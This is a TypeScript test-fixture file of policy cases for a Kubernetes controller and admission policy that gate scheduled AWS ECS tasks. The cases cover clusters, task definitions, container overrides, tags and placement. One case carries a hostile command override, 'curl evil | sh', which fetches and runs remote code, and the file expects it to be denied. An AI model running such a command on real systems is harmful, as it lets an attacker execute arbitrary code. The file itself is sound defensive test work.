// The cases both policy judges must decide alike: the controller's evaluator
// (test/unit/policy/policy-cases.test.ts) and the ValidatingAdmissionPolicy on the real API server
// (test/integration/policy-admission.test.ts). Each case's policies select its namespace alone.
// Left out on purpose, because the admission API cannot see them (README, "Multi-tenant
// clusters"): a namespace no policy selects, policies naming different roles, an unset cluster and
// a queueUrl.
import type { PolicySpec } from '../../src/api/policy-types.js';

export type CasePolicy = Omit<PolicySpec, 'namespaceSelector'>;

export interface PolicyCase {
  readonly name: string;
  /** The policies selecting the case's namespace. */
  readonly policies: readonly CasePolicy[];
  /** spec.task, merged over { cluster: team-a-prod, taskDefinition: report }. */
  readonly task?: Record<string, unknown>;
  /** The rest of the spec, beside schedule and task. */
  readonly spec?: Record<string, unknown>;
  /** Denied at this spec path (list indices left out); undefined: allowed. */
  readonly denied?: string;
}

const base: CasePolicy = {
  clusters: ['team-a-*'],
  taskDefinitions: ['report', 'etl:12', 'job.v2'],
  launchTypes: ['FARGATE'],
  subnets: ['subnet-a*'],
  maxTasksPerRun: 5,
};
const withOverrides = (overrides: CasePolicy['overrides']): CasePolicy => ({ ...base, overrides });
const containers = (...c: Record<string, unknown>[]) => ({ overrides: { containerOverrides: c } });
const ROLE = 'arn:aws:iam::123456789012:role/team-a';

export const policyCases: readonly PolicyCase[] = [
  // What every policy had before overrides were judged.
  { name: 'what the policy allows', policies: [base], task: { launchType: 'FARGATE' } },
  { name: 'a family allows its revisions', policies: [base], task: { taskDefinition: 'report:3' } },
  { name: 'family:revision exactly', policies: [base], task: { taskDefinition: 'etl:12' } },
  {
    name: 'a dot in a pattern is literal',
    policies: [base],
    task: { taskDefinition: 'jobXv2' },
    denied: 'spec.task.taskDefinition',
  },
  {
    name: 'a cluster not listed',
    policies: [base],
    task: { cluster: 'team-b-prod' },
    denied: 'spec.task.cluster',
  },
  {
    name: 'a cluster ARN against name patterns',
    policies: [base],
    task: { cluster: 'arn:aws:ecs:us-east-1:999999999999:cluster/team-a-prod' },
    denied: 'spec.task.cluster',
  },
  {
    name: 'another revision',
    policies: [base],
    task: { taskDefinition: 'etl:13' },
    denied: 'spec.task.taskDefinition',
  },
  {
    name: 'a taskRoleArn override',
    policies: [base],
    task: { overrides: { taskRoleArn: `${ROLE}-x` } },
    denied: 'spec.task.overrides.taskRoleArn',
  },
  {
    name: 'a launch type not listed',
    policies: [base],
    task: { launchType: 'EC2' },
    denied: 'spec.task.launchType',
  },
  {
    name: 'a subnet not matching',
    policies: [base],
    task: { networkConfiguration: { awsvpcConfiguration: { subnets: ['subnet-a1', 'subnet-b1'] } } },
    denied: 'spec.task.networkConfiguration.awsvpcConfiguration.subnets',
  },
  {
    name: 'ECS Exec',
    policies: [base],
    task: { enableExecuteCommand: true },
    denied: 'spec.task.enableExecuteCommand',
  },
  {
    name: 'taskCount above maxTasksPerRun',
    policies: [base],
    spec: { taskCount: 6 },
    denied: 'spec.taskCount',
  },
  {
    name: 'a dead-letter queue (none listed)',
    policies: [base],
    spec: { deadLetter: { sqs: { queueName: 'failed-runs' } } },
    denied: 'spec.deadLetter.sqs.queueName',
  },
  // Container overrides: denied unless a rule covering the container allows them.
  {
    name: 'a command override, no rules',
    policies: [base],
    task: containers({ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }),
    denied: 'spec.task.overrides.containerOverrides',
  },
  {
    name: 'a command override a rule allows',
    policies: [withOverrides({ containers: [{ name: 'app', command: true }] })],
    task: containers({ name: 'app', command: ['run', '--full'] }),
  },
  {
    name: 'a command override of a container no rule covers',
    policies: [withOverrides({ containers: [{ name: 'app', command: true }] })],
    task: containers({ name: 'sidecar', command: ['sh'] }),
    denied: 'spec.task.overrides.containerOverrides',
  },
  {
    name: 'a rule by glob covers a container',
    policies: [withOverrides({ containers: [{ name: 'app-*', command: true }] })],
    task: containers({ name: 'app-1', command: ['run'] }),
  },
  {
    name: 'an environment variable the rule lists',
    policies: [withOverrides({ containers: [{ name: 'app', environment: ['LOG_LEVEL', 'BATCH_*'] }] })],
    task: containers({
      name: 'app',
      environment: [
        { name: 'LOG_LEVEL', value: 'debug' },
        { name: 'BATCH_SIZE', value: '9' },
      ],
    }),
  },
  {
    name: 'an environment variable the rule does not list',
    policies: [withOverrides({ containers: [{ name: 'app', environment: ['LOG_LEVEL'] }] })],
    task: containers({
      name: 'app',
      environment: [{ name: 'AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', value: '/x' }],
    }),
    denied: 'spec.task.overrides.containerOverrides',
  },
  {
    name: 'a command where the rule allows only environment',
    policies: [withOverrides({ containers: [{ name: 'app', environment: ['*'] }] })],
    task: containers({ name: 'app', command: ['sh'] }),
    denied: 'spec.task.overrides.containerOverrides',
  },
  {
    name: 'an environment file the rule lists',
    policies: [
      withOverrides({ containers: [{ name: 'app', environmentFiles: ['arn:aws:s3:::cfg/*.env'] }] }),
    ],
    task: containers({ name: 'app', environmentFiles: [{ value: 'arn:aws:s3:::cfg/a.env', type: 's3' }] }),
  },
  {
    name: 'an environment file from another bucket',
    policies: [
      withOverrides({ containers: [{ name: 'app', environmentFiles: ['arn:aws:s3:::cfg/*.env'] }] }),
    ],
    task: containers({ name: 'app', environmentFiles: [{ value: 'arn:aws:s3:::other/a.env', type: 's3' }] }),
    denied: 'spec.task.overrides.containerOverrides',
  },
  {
    name: 'a container override naming only the container',
    policies: [base],
    task: containers({ name: 'app' }),
  },
  // Resources, tags, placement, platform version: each denied unless allowed.
  {
    name: 'a task CPU override',
    policies: [base],
    task: { overrides: { cpu: '4096' } },
    denied: 'spec.task.overrides',
  },
  {
    name: 'a container memory override',
    policies: [base],
    task: containers({ name: 'app', memory: 8192 }),
    denied: 'spec.task.overrides',
  },
  {
    name: 'resource overrides the policy allows',
    policies: [withOverrides({ resources: true })],
    task: {
      overrides: {
        cpu: '4096',
        ephemeralStorage: { sizeInGiB: 50 },
        containerOverrides: [{ name: 'app', memory: 8192 }],
      },
    },
  },
  {
    name: 'a tag, none allowed',
    policies: [base],
    task: { tags: [{ key: 'team', value: 'a' }] },
    denied: 'spec.task.tags',
  },
  {
    name: 'tags the policy lists',
    policies: [withOverrides({ tags: ['team', 'cost-*'] })],
    task: {
      tags: [
        { key: 'team', value: 'a' },
        { key: 'cost-center', value: '7' },
      ],
    },
  },
  {
    name: 'a placement constraint',
    policies: [base],
    task: { placementConstraints: [{ type: 'memberOf', expression: 'attribute:role == admin' }] },
    denied: 'spec.task.placement',
  },
  {
    name: 'a placement strategy',
    policies: [base],
    task: { placementStrategy: [{ type: 'random' }] },
    denied: 'spec.task.placement',
  },
  {
    name: 'placement the policy allows',
    policies: [withOverrides({ placement: true })],
    task: { placementConstraints: [{ type: 'distinctInstance' }], placementStrategy: [{ type: 'random' }] },
  },
  {
    name: 'a platform version, none allowed',
    policies: [base],
    task: { platformVersion: 'LATEST' },
    denied: 'spec.task.platformVersion',
  },
  {
    name: 'a platform version listed',
    policies: [withOverrides({ platformVersions: ['LATEST'] })],
    task: { platformVersion: 'LATEST' },
  },
  {
    name: 'a platform version not listed',
    policies: [withOverrides({ platformVersions: ['LATEST'] })],
    task: { platformVersion: '1.3.0' },
    denied: 'spec.task.platformVersion',
  },
  // Several policies: every one must allow.
  {
    name: 'two policies that both allow it',
    policies: [base, { clusters: ['*'], taskDefinitions: ['*'], launchTypes: ['*'] }],
    task: { launchType: 'FARGATE' },
  },
  {
    name: 'a second policy that denies the cluster',
    policies: [base, { clusters: ['team-a-dev'], taskDefinitions: ['*'] }],
    denied: 'spec.task.cluster',
  },
  {
    name: 'a team policy with a role denies what a broader policy allows',
    policies: [
      { ...base, assumeRoleArn: ROLE },
      { clusters: ['*'], taskDefinitions: ['*'] },
    ],
    task: { taskDefinition: 'payments' },
    denied: 'spec.task.taskDefinition',
  },
  {
    name: 'the smallest maxTasksPerRun applies',
    policies: [base, { clusters: ['*'], taskDefinitions: ['*'], maxTasksPerRun: 2 }],
    spec: { taskCount: 3 },
    denied: 'spec.taskCount',
  },
];

/** The spec of a case's EcsScheduledTask. */
export function caseSpec(c: PolicyCase): Record<string, unknown> {
  return {
    schedule: '@daily',
    suspend: true,
    ...c.spec,
    task: { cluster: 'team-a-prod', taskDefinition: 'report', ...c.task },
  };
}

/** A spec path without list indices: what both judges name. */
export const withoutIndices = (path: string) => path.replace(/\[\d+\]/g, '');
